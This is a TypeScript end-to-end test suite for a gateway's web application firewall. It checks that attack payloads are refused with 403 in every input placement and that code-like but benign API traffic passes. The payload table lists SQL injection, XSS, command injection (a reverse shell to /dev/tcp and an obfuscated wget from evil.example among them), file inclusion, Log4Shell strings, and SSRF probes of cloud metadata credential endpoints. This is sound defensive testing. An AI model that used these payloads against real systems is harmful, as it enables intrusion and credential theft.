/**
 * The built-in WAF profile (no rule set: the quickstart's default) end to end: every attack class
 * of issue 23 in every place an API takes input — query, JSON body, form values and field names,
 * multipart parts, header values, cookies and path segments — encoded as a client sends it, is
 * refused with 403 and never reaches the upstream; API traffic that looks like code to a naive
 * rule (GraphQL with variables, OData filters, JSON:API and JSON Schema documents, prose in many
 * scripts, markdown, template placeholders, public URLs, JWTs, consent cookies) passes.
 */
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { request } from 'undici'
import { baseConfig, startTestGateway, type TestGateway } from '../helpers/gateway.js'
import { startUpstream, type TestUpstream } from '../helpers/upstream.js'

/** A few payloads per class, of different shapes (each is tried in every placement). */
const ATTACKS: Record<string, readonly string[]> = {
  sqli: ["1' OR '1'='1", '1 UNION SELECT username, password FROM users', "1' AND SLEEP(5)#", "'; DROP TABLE users; --"],
  xss: ['<script>alert(1)</script>', '"><img src=x onerror=alert(document.domain)>', "<svg/onload=alert(1)>", "'-alert(1)-'"],
  rce: ['; cat /etc/passwd', '127.0.0.1 | id', '$(whoami)', '`sleep 5`', '|| ping -c 10 127.0.0.1', ';c\'a\'t${IFS}/etc/passwd', '& ping -n 5 127.0.0.1', '; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1', '@{[system "touch /tmp/pwned"]}', '1;type c:\\.\\win.ini', 'x & type \\\\.\\pipe\\x', 'a|type c:\\_x.txt', '| w\\g\\e\\t h\\t\\t\\p\\:\\/\\/\\e\\v\\i\\l\\.\\e\\x\\a\\m\\p\\l\\e\\/x\\.s\\h -\\O /\\t\\m\\p\\/x'],
  lfi: ['../../../../etc/passwd', '....//....//....//etc/shadow', '..\\..\\..\\windows\\win.ini', '/proc/self/environ', '%2e%2e%2f%2e%2e%2fetc%2fhosts'],
  rfi: ['http://evil.example/shell.txt?', 'php://filter/convert.base64-encode/resource=index.php', 'data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+', 'http://203.0.113.9/c99.php', 'expect://id', 'http:/\\evil.example/x.txt', 'https://cdn.example.net/backdoor.jpg?x='],
  php: ['<?php system($_GET["c"]); ?>', 'eval(base64_decode("cGhwaW5mbygpOw=="))', 'O:8:"stdClass":1:{s:4:"test";s:3:"abc";}', "passthru('whoami');"],
  java: ['${jndi:ldap://evil.example/a}', '${${lower:j}ndi:${lower:r}mi://evil.example/x}', '%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec("id"))}', 'T(java.lang.Runtime).getRuntime().exec("id")'],
  ssrf: ['http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'http://metadata.google.internal/computeMetadata/v1/', 'http://[fd00:ec2::254]/latest/meta-data/', 'http://2130706433:6379/', 'gopher://127.0.0.1:6379/_INFO', 'http://localhost:8080/admin', 'file:///etc/passwd'],
  nosql: ['{"$ne": null}', '{"$where": "sleep(5000)"}', '{"$regex": "^adm"}', "' || '1'=='1"],
  ssti: ['{{7*7}}', '${7*7}', '<%= 7*7 %>', "{{''.__class__.__mro__[1].__subclasses__()}}", '{{config.items()}}', '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', '#{7*7}'],
  crlf: ['\r\nSet-Cookie: session=evil', 'en\r\nLocation: https://evil.example/', 'x\r\n\r\n<script>alert(1)</script>', '\nX-Injected-Header: 1', 'bob\n[INFO] User admin logged in from 10.0.0.7'],
}

type Placement = 'query' | 'json' | 'form' | 'form-name' | 'multipart' | 'header' | 'cookie' | 'path'
const PLACEMENTS: readonly Placement[] = ['query', 'json', 'form', 'form-name', 'multipart', 'header', 'cookie', 'path']

interface Sent {
  method: string
  path: string
  headers: Record<string, string>
  body?: string
}

const BEARER = 'Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c'

/** `value` placed as a client sends it; `field` is the argument, header or cookie that carries it. */
function placed(value: string, placement: Placement, field: string): Sent {
  const headers: Record<string, string> = { authorization: BEARER, 'x-request-id': 'b7c6f0a2-5b8e-4f7d-9c1e-2d3a4b5c6d7e' }
  switch (placement) {
    case 'query':
      return { method: 'GET', path: `/api/items?${field}=${encodeURIComponent(value)}`, headers }
    case 'json':
      return { method: 'POST', path: '/api/items', headers: { ...headers, 'content-type': 'application/json' }, body: JSON.stringify({ [field]: value, count: 2 }) }
    case 'form':
      return { method: 'POST', path: '/api/items', headers: { ...headers, 'content-type': 'application/x-www-form-urlencoded' }, body: `${field}=${encodeURIComponent(value)}&count=2` }
    case 'form-name':
      return { method: 'POST', path: '/api/items', headers: { ...headers, 'content-type': 'application/x-www-form-urlencoded' }, body: `${encodeURIComponent(value)}=1&count=2` }
    case 'multipart':
      return {
        method: 'POST',
        path: '/api/items',
        headers: { ...headers, 'content-type': 'multipart/form-data; boundary=portcullis-boundary' },
        body: `--portcullis-boundary\r\nContent-Disposition: form-data; name="${field}"\r\n\r\n${value}\r\n--portcullis-boundary--\r\n`,
      }
    case 'header':
      // What cannot go in a header as is (line breaks, other scripts) is percent-encoded, as clients do.
      return { method: 'GET', path: '/api/items', headers: { ...headers, [`x-${field}`]: /[^\x20-\x7e]/.test(value) ? encodeURI(value) : value } }
    case 'cookie':
      return { method: 'GET', path: '/api/items', headers: { ...headers, cookie: `session=4f9a1c2e; ${field}=${encodeURIComponent(value)}` } }
    case 'path':
      return { method: 'GET', path: `/api/items/${encodeURIComponent(value)}`, headers }
  }
}

async function send(gw: TestGateway, sent: Sent): Promise<number> {
  const response = await request(`${gw.url}${sent.path}`, { method: sent.method as 'GET', headers: sent.headers, body: sent.body })
  await response.body.text()
  return response.statusCode
}

describe('waf: the built-in profile', () => {
  let upstream: TestUpstream
  let gw: TestGateway

  before(async () => {
    upstream = await startUpstream()
    const config = baseConfig(upstream.url)
    config.apis = [{ name: 'api', basePath: '/api', upstream: { url: upstream.url }, policies: { waf: {} } }]
    gw = await startTestGateway(config)
  })
  after(async () => {
    await gw?.stop()
    await upstream?.close()
  })

  for (const [attackClass, payloads] of Object.entries(ATTACKS)) {
    test(`${attackClass}: refused with 403 in every placement`, async () => {
      const passed: string[] = []
      for (const [i, payload] of payloads.entries()) {
        for (const placement of PLACEMENTS) {
          // A NoSQL operator object travels as JSON, not as a string inside it; in a form, as a bracketed name.
          const sent = attackClass === 'nosql' && placement === 'json' && payload.startsWith('{')
            ? { ...placed('', 'json', 'user'), body: `{"user": ${payload}, "count": 2}` }
            : attackClass === 'nosql' && placement === 'form-name' && payload.startsWith('{')
              ? placed(`user[${Object.keys(JSON.parse(payload) as object)[0] ?? ''}]`, 'form-name', 'q')
              : placed(payload, placement, ['q', 'name', 'url', 'template', 'file'][i % 5] ?? 'q')
          upstream.requests.length = 0
          const status = await send(gw, sent)
          // Until the core routes encoded separators in a segment, it refuses them with 400 before any policy runs.
          const refusedByCore = placement === 'path' && status === 400 && /%2F|%5C/i.test(sent.path)
          if ((status !== 403 && !refusedByCore) || upstream.requests.length > 0) passed.push(`${placement} ${JSON.stringify(payload)} → ${status}`)
        }
      }
      assert.deepEqual(passed, [], 'attacks that were not refused')
    })
  }

  test('NoSQL operators in bracketed query and form names are refused', async () => {
    const attempts: Sent[] = [
      { method: 'GET', path: '/api/login?username=admin&password[$ne]=x', headers: {} },
      { method: 'GET', path: '/api/users?age[$gt]=&name[$regex]=.*', headers: {} },
      { method: 'POST', path: '/api/login', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'username=admin&password%5B%24ne%5D=1' },
      { method: 'POST', path: '/api/login', headers: { 'content-type': 'application/json' }, body: '{"username": "admin", "password": {"$gt": ""}}' },
      { method: 'POST', path: '/api/search', headers: { 'content-type': 'application/json' }, body: '{"filter": {"$where": "this.password.length > 0"}}' },
    ]
    for (const sent of attempts) assert.equal(await send(gw, sent), 403, JSON.stringify(sent))
  })

  test('SSRF spellings of internal addresses are refused, metadata addresses in Referer too; public URLs pass', async () => {
    const json = (url: string): Sent => ({ method: 'POST', path: '/api/webhooks', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ callbackUrl: url }) })
    for (const url of ['http://0x7f000001/', 'http://0177.0.0.1/', 'http://127.1/', 'http://[::1]:8080/', 'http://[::ffff:127.0.0.1]/', 'http://example.com@10.0.0.5/', 'http://10.0.0.5.nip.io/', 'dict://localhost:11211/stat', 'http://kubernetes.default.svc/api'])
      assert.equal(await send(gw, json(url)), 403, url)
    for (const referer of ['http://169.254.169.254/latest/meta-data/', 'gopher://127.0.0.1:6379/_INFO', 'http://2130706433/', 'http://cdn.example.net@127.0.0.1:9200/actuator/env'])
      assert.equal(await send(gw, { method: 'GET', path: '/api/items', headers: { referer } }), 403, referer)
    for (const url of ['https://hooks.example.com/services/T000/B000/XXXX', 'https://api.github.com/repos/octocat/hello-world/issues?state=open', 'https://8.8.8.8/dns-query', 'http://[2001:db8::1]/'])
      assert.equal(await send(gw, json(url)), 200, url)
  })

  test('API traffic that looks like code passes', async () => {
    const json = (body: unknown, type = 'application/json'): Sent => ({ method: 'POST', path: '/api/items', headers: { 'content-type': type, authorization: BEARER }, body: JSON.stringify(body) })
    const query = (q: string): Sent => ({ method: 'GET', path: `/api/items?${q}`, headers: { authorization: BEARER } })
    const benign: Sent[] = [
      json({ query: 'mutation UpdateUser($id: ID!, $input: UserInput!) { updateUser(id: $id, input: $input) { id name email } }', variables: { id: '42', input: { name: "O'Brien" } } }),
      json({ query: 'query Repo($owner: String!, $name: String!) { repository(owner: $owner, name: $name) { issues(first: 10) { nodes { id title } } } }', operationName: 'Repo' }),
      query(`$filter=${encodeURIComponent("Name eq 'Milk' and Price lt 2.55")}&$select=Name,Price&$top=10&$orderby=${encodeURIComponent('Price desc')}`),
      query(`$filter=${encodeURIComponent("startswith(CompanyName,'Alfr') or contains(Title, 'Sales')")}`),
      json({ data: { type: 'articles', id: '1', attributes: { title: 'JSON:API paints my bikeshed!' }, relationships: { author: { links: { related: 'https://example.com/articles/1/author' } } } } }, 'application/vnd.api+json'),
      json({ $schema: 'https://json-schema.org/draft/2020-12/schema', $id: 'https://example.com/person.schema.json', properties: { pet: { $ref: '#/$defs/pet' } } }),
      json([{ op: 'replace', path: '/data/items/0/name', value: 'Widget' }], 'application/json-patch+json'),
      json({ description: '## Install\n\nRun `npm install portcullis`, then `id` and `type` fields are set.\n\n| id | name | type |\n|----|------|------|\n| 1 | Widget | date |' }),
      json({ note: "Tom's café — “the best in town” (since 1998); open Mon–Fri, 9–5. Don't miss it -- really!" }),
      json({ note: 'Привет! Это «тестовое» сообщение — проверка; всё в порядке.', ja: '注文番号「12345」の配送状況を確認してください。', ar: 'مرحبا! طلبك «قيد المعالجة» — شكرا لك.', hi: 'नमस्ते! आपका ऑर्डर “भेज दिया गया” है।', el: 'Η «παραγγελία» σας — έχει σταλεί.' }),
      json({ template: 'Hello {{first_name}}, your order {{order_id}} ships on {{ship_date | date}}.', subject: 'Dear ${customer.name}' }),
      json({ website: 'https://www.example.org/about?lang=en#team', email: "jane.o'neil@example.com", avatar: 'https://cdn.example.net/u/42.png?size=200' }),
      json({ path: '../schemas/pet.json#/definitions/Pet', jsonPath: '$.store.book[?(@.price < 10)].title', windowsPath: 'C:\\Users\\Public\\report.pdf' }),
      json({ message: 'Line one\nLocation: Berlin, Germany\nTime: 10:00; weather: sunny' }),
      json({ howto: 'To deploy: cd project && npm install && npm test', tip: 'It\'s a dog\'s life; cat lovers won\'t agree' }),
      json({ image: 'node:20-alpine', before_script: ['cat /etc/os-release; uname -a'], script: 'npm ci && npm test', command: ['/bin/sh', '-c', 'echo hello; sleep 5'] }),
      json({ text: 'Steps: 1) run `npm run build` 2) open http://localhost:3000 -- the page is blank. The config lives in /etc/nginx/sites-enabled/default; after `sudo systemctl reload nginx` it worked.' }),
      query(`q=${encodeURIComponent('rock & roll; jazz & blues')}&sort=-created_at&page[size]=20&filter[status]=active`),
      query(`q=${encodeURIComponent('Der Kunde sagt: „Das Paket ist beschädigt – bitte ersetzen!“')}&lang=de`),
      { method: 'POST', path: '/api/items', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `comment=${encodeURIComponent('Great product!\r\nWould buy again; 5/5 — thanks.')}&rating=5` },
      {
        method: 'GET',
        path: '/api/items',
        headers: {
          authorization: BEARER,
          'user-agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
          'sec-ch-ua': '"Chromium";v="120", "Not?A_Brand";v="24"',
          accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
          'accept-language': 'fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5',
          referer: 'http://localhost:3000/dashboard',
          origin: 'http://localhost:3000',
          'if-none-match': 'W/"0815"',
          traceparent: '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01',
          cookie: 'OptanonConsent=isGpcEnabled=0&datestamp=Mon+Dec+07+2026+10%3A00%3A00+GMT%2B0100&groups=C0001%3A1%2CC0002%3A0; _ga=GA1.2.1234567890.1600000000; token=' + BEARER.slice(7),
        },
      },
      { method: 'GET', path: '/api/subscriptions/1234/resourceGroups/rg-1/providers/Microsoft.Compute/virtualMachines/vm-1', headers: {} },
      { method: 'GET', path: `/api/articles/${encodeURIComponent('l’été-à-paris')}/comments`, headers: {} },
    ]
    const blocked: string[] = []
    for (const sent of benign) {
      const status = await send(gw, sent)
      if (status !== 200) blocked.push(`${status} ${sent.path} ${sent.body ?? ''}`)
    }
    assert.deepEqual(blocked, [])
  })
})
